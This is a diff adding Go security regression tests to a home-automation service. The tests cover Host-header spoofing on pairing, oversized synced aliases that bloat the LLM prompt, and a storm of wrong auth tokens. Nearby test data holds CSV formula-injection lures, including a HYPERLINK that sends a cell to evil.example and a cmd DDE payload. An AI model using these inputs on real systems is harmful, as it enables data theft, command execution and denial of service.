@@ -14,6 +14,7 @@ import (
 	"os"
 	"os/exec"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -173,6 +174,28 @@ func TestAttacksRound5EndToEnd(t *testing.T) {
 			centralsURI(t, "127.0.0.1:"+port, "X-Forwarded-Host: evil.example\r\nX-Forwarded-Proto: https\r\nForwarded: host=evil.example;proto=https\r\n")
 		}},
 
+		{"pairing/StartPairing over Connect with a Host central was not told of", func(t *testing.T) {
+			req, err := http.NewRequest(http.MethodPost, c.url+homeplanev1connect.PairingServiceStartPairingProcedure,
+				strings.NewReader(`{"client_name":"Lamp"}`))
+			if err != nil {
+				t.Fatal(err)
+			}
+			req.Host = "central.example.evil.example"
+			req.Header.Set("Content-Type", "application/json")
+			resp, err := http.DefaultClient.Do(req)
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer resp.Body.Close()
+			var g struct {
+				URI string `json:"verificationUri"`
+			}
+			_ = json.NewDecoder(resp.Body).Decode(&g)
+			if resp.StatusCode == http.StatusOK && g.URI != c.url+"/pair" || resp.StatusCode >= 500 {
+				t.Errorf("StartPairing: %s, verification URI %q", resp.Status, g.URI)
+			}
+		}},
+
 		// The spreadsheet exports.
 		{"export/sentences that are formulas in the audit CSV", func(t *testing.T) {
 			lures := []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+1+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(1+1)*cmd"}
@@ -261,6 +284,33 @@ func TestAttacksRound5EndToEnd(t *testing.T) {
 			})
 			if n := rec.GetLlmTokens(); n < 0 {
 				t.Errorf("llm_tokens %d: the counts wrapped", n)
+			}
+		}},
+		{"llm/synced names that make every prompt most of a mebibyte", func(t *testing.T) {
+			mallory := newHandAgent(t, c, "mallory@example.com")
+			if _, err := c.intents.SetPipeline(ctx, authed(mallory.token, &homeplanev1.SetPipelineRequest{HomeId: mallory.homeID,
+				Pipeline: homeplanev1.Pipeline_PIPELINE_LLM})); err != nil {
+				t.Fatal(err)
+			}
+			sync := &homeplanev1.EntitySync{}
+			for i := range 90 {
+				e := &homeplanev1.Entity{EntityId: fmt.Sprintf("light.l%03d", i), Name: fmt.Sprintf("Lamp %d", i), Domain: "light", State: "off"}
+				for j := range 32 {
+					e.Aliases = append(e.Aliases, fmt.Sprintf("%03d-%02d-", i, j)+strings.Repeat("x", 240))
+				}
+				sync.Entities = append(sync.Entities, e)
+			}
+			mallory.sync(t, c, sync)
+			eventually(t, 10*time.Second, "the synced lamps", func() bool { return len(mallory.entities(t, c)) >= 90 })
+			calls := m.calls()
+			if _, err := mallory.say(c, "turn on lamp 3"); err != nil {
+				t.Fatalf("say: %v", err)
+			}
+			if m.calls() != calls+1 {
+				t.Fatalf("the model was called %d times", m.calls()-calls)
+			}
+			if n := len(m.lastPrompt()); n > 160<<10 {
+				t.Errorf("the prompt of one sentence is %d bytes", n)
 			}
 		}},
 	}
@@ -388,6 +438,24 @@ func TestAttacksRound5Contract(t *testing.T) {
 			if a := post(t, http.MethodPost, "Bearer "+token, "application/x-www-form-urlencoded", form); a.status != http.StatusBadRequest {
 				t.Errorf("form body: %d %q, want 400", a.status, a.body)
 			}
+		}},
+		{"contract/a storm of wrong tokens takes no check from a broker", func(t *testing.T) {
+			var wg sync.WaitGroup
+			for range 300 {
+				wg.Add(1)
+				go func() {
+					defer wg.Done()
+					req, _ := http.NewRequest(http.MethodPost, s.authURL, strings.NewReader(creds(aliceUser, aliceUser, alicePass)))
+					req.Header.Set("Authorization", "Bearer wrong")
+					if resp, err := http.DefaultClient.Do(req); err == nil {
+						resp.Body.Close()
+					}
+				}()
+			}
+			if a := check(t, creds(bobUser, bobUser, bobPass)); a.result != "allow" {
+				t.Errorf("bob during the storm: %d %q", a.status, a.body)
+			}
+			wg.Wait()
 		}},
 		{"contract/a revoked agent's password, after it logged in", func(t *testing.T) {
 			if a := check(t, creds(aliceUser, aliceUser, alicePass)); a.result != "allow" {
